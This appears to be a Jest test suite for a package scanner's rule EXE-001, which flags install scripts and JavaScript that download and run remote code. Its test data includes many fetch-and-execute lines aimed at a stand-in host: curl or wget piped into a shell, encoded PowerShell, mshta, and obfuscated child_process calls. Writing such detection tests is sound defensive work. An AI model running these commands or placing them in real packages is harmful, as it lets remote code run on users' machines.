import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXE-001 a command fetches and runs', () => {
  it.each([
    ['a pipe into a shell', 'curl -fsSL https://x.example.invalid/i.sh | bash'],
    [
      'a pipe with a stage between',
      'wget -qO- "https://x.example.invalid/?a=1&b=2" | base64 -d | sudo -E /bin/sh -s',
    ],
    ['a substitution', 'sh -c "$(curl -s https://x.example.invalid)"'],
    ['a process substitution', 'bash <(curl -s https://x.example.invalid)'],
    ['PowerShell', 'powershell -c "iex (iwr https://x.example.invalid/a.ps1)"'],
    ['encoded PowerShell', `powershell -NoProfile -enc ${'QUJD'.repeat(10)}`],
    ['mshta', 'mshta https://x.example.invalid/a.hta'],
  ])('finds %s in an install script', (_name, postinstall) => {
    expect(hitsOf('EXE-001', manifest({ scripts: { postinstall } }))).toEqual(['critical package.json']);
  });

  it.each([
    ['exec', `require('child_process').exec('curl https://x.example.invalid | sh');`],
    [
      'spawn of a shell',
      `import { spawn } from 'node:child_process'; spawn('bash', ['-c', 'curl https://x.example.invalid | sh']);`,
    ],
    ['pieces', `const c = 'cu' + 'rl '; require('child_process')['ex' + 'ec'](c + host + ' | sh');`],
  ])('finds it in %s', (_name, source) => {
    expect(hitsOf('EXE-001', js(source))).toEqual(['critical index.js']);
  });

  it('finds it in a shell file that an install script starts, and less in one that nobody does', () => {
    const sh = '#!/bin/sh\n# set up\ncurl https://x.example.invalid | sh\n';
    expect(
      hitsOf('EXE-001', { ...manifest({ scripts: { install: 'sh ./setup.sh' } }), 'setup.sh': sh }),
    ).toEqual(['critical setup.sh']);
    expect(hitsOf('EXE-001', { ...manifest({}), 'ci/setup.sh': sh })).toEqual(['medium ci/setup.sh']);
  });

  it.each([
    ['a download', 'curl -o data.json https://x.example.invalid/data.json'],
    ['a pipe into something else', 'curl https://x.example.invalid | jq . | tee out.json'],
    ['two commands', 'curl https://x.example.invalid -o a.txt; sh build.sh'],
    ['a comment', 'node build.js # curl https://x.example.invalid | sh'],
    ['an argument', 'echo "see curl https://x.example.invalid"'],
  ])('passes %s', (_name, install) => {
    expect(hitsOf('EXE-001', manifest({ scripts: { install } }))).toEqual([]);
  });
});
